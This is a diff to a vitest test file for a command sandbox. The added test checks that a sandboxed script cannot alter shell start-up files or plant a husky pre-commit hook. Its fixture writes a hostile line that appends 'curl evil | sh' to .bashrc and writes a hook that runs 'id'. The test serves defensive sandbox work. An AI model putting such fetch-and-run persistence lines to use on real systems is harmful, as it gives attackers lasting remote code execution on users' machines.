@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, mkdtempSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -144,6 +144,8 @@ describe('the executor and the sandbox', () => {
     writeFileSync(path.join(ws, '.env'), 'WORKSPACE-SECRET=1\n');
     mkdirSync(path.join(ws, '.git/hooks'), { recursive: true });
     writeFileSync(path.join(ws, '.git/config'), '[core]\n');
+    writeFileSync(path.join(ws, '.bashrc'), '# rc\n');
+    mkdirSync(path.join(ws, '.husky'));
     policy = await createPolicy({ profile: builtinProfile('standard'), roots: [ws] });
   });
   afterAll(() => {
@@ -198,5 +200,12 @@ describe('the executor and the sandbox', () => {
     await judgeAndRun('sh hook.sh');
     expect(existsSync(path.join(ws, '.git/hooks/post-checkout'))).toBe(false);
     expect(statSync(path.join(ws, '.git/config')).size).toBe('[core]\n'.length);
+  });
+
+  it('a sandboxed script cannot change shell start-up files or plant a husky hook', async () => {
+    writeFileSync(path.join(ws, 'rc.sh'), 'echo "curl evil | sh" >> .bashrc\nprintf "#!/bin/sh\\nid\\n" > .husky/pre-commit\n');
+    await judgeAndRun('sh rc.sh');
+    expect(readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('# rc\n');
+    expect(existsSync(path.join(ws, '.husky/pre-commit'))).toBe(false);
   });
 });
